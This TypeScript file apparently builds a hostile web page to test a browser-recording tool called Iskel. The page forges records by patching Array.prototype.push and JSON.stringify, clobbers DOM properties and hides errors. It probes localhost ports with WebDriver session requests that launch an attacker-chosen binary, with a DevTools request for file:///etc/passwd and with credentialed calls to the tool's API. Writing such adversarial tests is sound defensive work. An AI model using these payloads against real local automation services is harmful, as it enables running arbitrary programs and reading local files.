/** What a page does that knows everything about Iskel: its source, its ports, its calls. Written out as a page. */
export function hostilePage(iskel: string, ports: readonly number[], program: string): string {
  const launch = JSON.stringify({
    capabilities: {
      alwaysMatch: {
        'goog:chromeOptions': { binary: program },
        'webkitgtk:browserOptions': { binary: program, args: ['--automation'] },
        'moz:firefoxOptions': { binary: program },
      },
    },
  });
  return `<!doctype html><title>hostile</title><meta charset="utf-8">
  <form id="clobber"><input name="attributes"><input name="childNodes"><input name="nodeType"><input name="localName"><input name="id"></form>
  <input id="password" type="password"><p id="p">FORGED by the page itself is no record</p>
  <script>
  const tried = window.tried = { asked: 0, answered: [] };
  const hears = (what) => (answer) => { if (answer && answer.type !== 'opaque') tried.answered.push(what + ' ' + answer.status); };
  const own = Array.prototype.push, queues = new Set();
  Array.prototype.push = function (...a) { if (typeof a[0] === 'string' && a[0].startsWith('[{')) queues.add(this); return own.apply(this, a); };
  const stringify = JSON.stringify;
  JSON.stringify = function (...a) { try { return stringify.apply(this, a).replace('"k":"', '"k":"'); } catch { return '[]'; } };
  window.iskelObserver = { attach() {}, flush() {}, structure() {} };
  EventTarget.prototype.addEventListener = ((add) => function (...a) { return add.apply(this, a); })(EventTarget.prototype.addEventListener);
  addEventListener('error', (e) => e.preventDefault());
  function forge() {
    const t = performance.timeOrigin + performance.now();
    const records = stringify([
      { k: 'press', t, x: 1, y: 1, d: 'FORGED', b: { x: 0, y: 0, width: 9, height: 9 } },
      { k: 'title', t, x: 'FORGED' }, { k: 'held', t, d: 'FORGED', v: 'FORGED' },
      { k: 'structure', t, x: '<html><body>FORGED</body></html>', u: location.href, n: 1 },
      { k: 'element', t, e: 'changed', l: 'css=#password', s: { count: 1, node: 1, tag: 'input', attrs: { type: 'text' }, text: 'FORGED' } },
      { k: 'secret', t, v: 'harbour' }, { k: 'circumstances', t, x: { zone: 'FORGED' } },
      { k: 'suppressed', t: 'FORGED', x: {} }, 7, null, { k: '__proto__' },
    ]);
    for (const queue of queues) own.call(queue, records);
    dispatchEvent(new ErrorEvent('error', { message: 'x', cancelable: true }));
    postMessage(records, '*');
  }
  const pause = (ms) => new Promise((done) => setTimeout(done, ms));
  const ports = ${JSON.stringify(ports)};
  async function round() {
    for (const port of ports)
      for (const host of ['127.0.0.1', 'localhost', '[::1]']) {
        const at = 'http://' + host + ':' + port;
        for (const [path, body] of [['/session', ${JSON.stringify(launch)}], ['/wd/session', ${JSON.stringify(launch)}], ['/json/new?file:///etc/passwd', undefined]]) {
          tried.asked++;
          const stop = new AbortController();
          setTimeout(() => stop.abort(), 1500);
          fetch(at + path, { method: body ? 'POST' : 'GET', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body, signal: stop.signal }).then(hears(at + path), () => 0);
        }
        for (const path of ['/session', '/devtools/browser/x', '/wd/session']) {
          tried.asked++;
          try {
            const socket = new WebSocket('ws://' + host + ':' + port + path);
            socket.onopen = () => {
              tried.answered.push('socket ' + port + path);
              socket.send(stringify({ id: 1, method: 'session.new', params: { capabilities: {} } }));
            };
            setTimeout(() => socket.close(), 1500);
          } catch { /* not in this engine */ }
        }
        await pause(15);
      }
    for (const path of ['/api/runs', '/%61pi/runs', '/api/drills', '/api/rules', '//api/health', '/wd/status']) {
      tried.asked++;
      fetch(${JSON.stringify(iskel)} + path, { credentials: 'include' }).then(hears(path), () => 0);
      fetch(${JSON.stringify(iskel)} + path, { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{"text":"drill"}' }).then(hears(path), () => 0);
      const image = new Image();
      image.onload = () => tried.answered.push('image ' + path);
      image.src = ${JSON.stringify(iskel)} + path;
      await pause(15);
    }
  }
  (async () => {
    for (;;) {
      forge();
      document.getElementById('password').type = Math.random() < 0.5 ? 'text' : 'password';
      await round();
      await pause(200);
    }
  })();
  </script>`;
}
